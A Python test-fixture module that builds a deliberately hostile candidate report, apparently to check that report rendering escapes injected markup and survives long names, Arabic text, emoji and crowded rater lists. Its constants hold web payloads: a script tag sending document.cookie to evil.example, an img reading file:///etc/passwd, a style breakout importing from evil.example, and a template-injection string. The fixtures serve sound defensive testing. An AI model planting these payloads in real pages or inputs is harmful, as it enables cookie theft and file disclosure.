"""A candidate report that tries to break out of the document or to break its layout."""

from domain.reporting.model import CandidateReport, Evidence, Mark, OpenQuestion, Quote
from tests.reports.samples import FULL, SINGLE_RATER, replace

SCRIPT = "<script>fetch('http://evil.example/'+document.cookie)</script>"
IMAGE = '<img src="file:///etc/passwd"><link rel=stylesheet href="http://evil.example/x.css">'
STYLE = "</style><style>@import url(http://evil.example/y.css);body{display:none}</style>"
TEMPLATE = "{{ report.__class__ }} {% include '/etc/passwd' %}"
LONG_NAME = "Wolfeschlegelsteinhausenbergerdorff" * 9  # 315 characters without a place to break
LONG_TEXT = "The candidate described the whole migration at length and in order. " * 60
ARABIC = "قالت إنها اتصلت بأحد عشر عميلاً ألغوا اشتراكهم قبل أن تكتب سطراً واحداً."
EMOJI = "Shipped it 🚀 on a Friday 👩‍💻."


def _hostile() -> CandidateReport:
    own, crowded = FULL.competencies[2], FULL.competencies[0]
    rater = own.marks[0].rater
    rating = replace(
        own,
        name=f"{SCRIPT} {LONG_NAME}",
        definition=STYLE,
        anchor_text=TEMPLATE,
        marks=(
            *own.marks,
            Mark(rater=LONG_NAME, level=4, no_evidence=None),
            Mark(rater=ARABIC, level=1, no_evidence=None),
        ),
        quotes=(
            Quote(rater=LONG_NAME, text=IMAGE, level=3, question=SCRIPT),
            Quote(rater=rater, text=ARABIC, level=3, question=ARABIC),
            Quote(rater=rater, text=LONG_TEXT, level=3, question=None),
            Quote(rater=rater, text="x" * 2000, level=3, question=None),
        ),
    )
    crowd = replace(
        crowded,
        marks=tuple(Mark(rater=f"Rater {n}", level=n % 5 + 1, no_evidence=None) for n in range(60)),
    )
    tagged = Evidence(
        rater=LONG_NAME,
        polarity="for",
        strength="behaviour",
        before="قالت إنها ",
        text="اتصلت بأحد عشر عميلاً",
        after=" ألغوا اشتراكهم.",
        why=STYLE,
        review="confirmed",
    )
    value = replace(
        FULL.values[0], name=LONG_NAME, definition=IMAGE, level_text=LONG_TEXT[:900], evidence=(tagged,) * 12
    )
    asked = OpenQuestion(competency=LONG_NAME, reason=STYLE, question=ARABIC, probes=(ARABIC, SCRIPT, LONG_NAME))
    return replace(
        FULL,
        organisation=f"{LONG_NAME} & Söhne",
        candidate=LONG_NAME,
        requisition=f"{ARABIC} {SCRIPT}",
        role=replace(FULL.role, name=LONG_NAME),
        panel=(LONG_NAME, ARABIC),
        why_statement=ARABIC,
        competencies=(rating, crowd),
        values=(value,),
        open_questions=(asked,),
    )


HOSTILE = _hostile()

EMOJI_ONLY = replace(SINGLE_RATER, candidate=EMOJI)
"""Characters that no embedded typeface draws."""


def quoting(raters: int, characters: int) -> CandidateReport:
    """A report in which each rater, of a name of 300 characters, quotes a note of so many in four scripts."""
    line = f"The candidate told it in order. {ARABIC} 出荷の前に十一人のお客様に電話しました。 {EMOJI} "
    note = (line * (characters // len(line) + 1))[:characters]
    names = tuple(f"{LONG_NAME[:296]} {number:03}" for number in range(raters))
    first, *others = FULL.competencies
    crowd = replace(
        first,
        marks=tuple(Mark(rater=name, level=number % 5 + 1, no_evidence=None) for number, name in enumerate(names)),
        quotes=tuple(Quote(rater=name, text=note, level=3, question=None) for name in names),
    )
    return replace(FULL, panel=names, competencies=(crowd, *others))
